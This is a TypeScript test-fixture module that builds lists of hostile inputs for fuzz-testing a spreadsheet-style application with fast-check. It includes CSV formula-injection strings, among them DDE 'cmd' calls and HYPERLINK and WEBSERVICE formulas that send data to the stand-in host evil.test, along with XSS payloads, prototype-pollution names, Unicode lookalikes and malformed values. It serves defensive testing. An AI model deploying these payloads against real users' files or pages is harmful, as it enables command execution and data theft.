/** Texts that somebody may put into a cell, a header, a name or a pack in order to do harm, or by accident. */
import fc from 'fast-check';

/** What spreadsheet programs run or might run as a formula: OWASP, "CSV Injection", and the full-width forms of its signs. */
export const formulaTexts = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  `=cmd|' /C calc'!A0`,
  "+cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML("http://evil.test","//a")',
  '=WEBSERVICE("http://evil.test")',
  '{=1+1}',
  'a,=1+1',
  'a;=1+1',
  'a;=1+1;b',
  "a; @SUM(1,1)|'x';-cmd|' /C calc'!A0",
  'x;y;z',
  "a;'=1+1;''=1+1",
  'a\t=1+1',
  '"=1+1',
  'a"\r\n=1+1,"',
] as const;

const script = (from: string) => `globalThis.__ran=(globalThis.__ran||'')+'${from} '`;

/** Each leaves a mark if a page runs it, or asks another server. */
export const markupTexts = [
  `<script>${script('script')}</script>`,
  `<img src=x onerror="${script('img')}">`,
  `"><svg onload="${script('svg')}">`,
  `'><iframe srcdoc="<script>parent.__ran='frame'</script>"></iframe>`,
  `</style><script>${script('style')}</script>`,
  `</textarea><img src=x onerror="${script('textarea')}">`,
  `javascript:${script('address')}`,
  '<img src="http://evil.test/pixel.png">',
  `<a href="javascript:${script('link')}">x</a>`,
  '\u2028</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the point
  '${alert(1)}',
] as const;

/** Members that every object of the language has. */
export const ownNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
] as const;

/** Looks like another text, or like nothing. */
export const lookAlikeTexts = [
  'C00001',
  'С00001',
  'Ｃ００００１',
  'C\u200b00001',
  'C00001\u00a0',
  '\u202eC00001',
  'c00001',
  'C\u00ad00001',
  '\ufeffC00001',
  'é',
  'e\u0301',
] as const;

export const strangeTexts = [
  '',
  ' ',
  '\u0000',
  '\u0001\u0002\u001f',
  '\ud800',
  '\udc00x',
  'a\ud83d',
  '\uffff',
  '\ufffe',
  '\u202e\u2066RTL\u2069',
  '\u200f',
  '_x003D_1+1',
  '_x0000_',
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  'undefined',
  'true',
  '#N/A',
  '#REF!',
  '#DIV/0!',
  '1e999',
  '-1e999',
  '0x10',
  '1_000',
  '٣',
  '1.7976931348623157e308',
  '9007199254740993',
  '99999999999999999999999',
  '0000-00-00',
  '9999-12-31',
  '10000-01-01',
  '-1-1-1',
  '2026-02-30',
  '1e5',
  '12/31/99999',
  '%',
  '￥',
  '()',
  '(1',
  '1,,,1',
  '1.2.3.4',
  '😀'.repeat(20),
  'Z̸̡'.repeat(200),
] as const;

/** As long as a cell may be, of what a search may stumble over. */
export const longTexts = [
  'x',
  ' ',
  'T',
  '1',
  '@.',
  '(',
  '[',
  '【',
  ',',
  "'",
  '"',
  '0 ',
  '年',
  '=',
  '/',
  '-',
  'é',
  '\ud83d',
]
  .map((piece) => piece.repeat(Math.floor(49_990 / piece.length)))
  .flatMap((long) => [long, `${long}\u0000`, `1${long}!`]);

export const hostileTexts: readonly string[] = [
  ...formulaTexts,
  ...markupTexts,
  ...ownNames,
  ...lookAlikeTexts,
  ...strangeTexts,
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...hostileTexts), fc.constantFrom(...hostileTexts))
      .map((two) => two.join('')),
  },
);

/** Rare, since every one of them is work. */
export const longText: fc.Arbitrary<string> = fc.constantFrom(...longTexts);
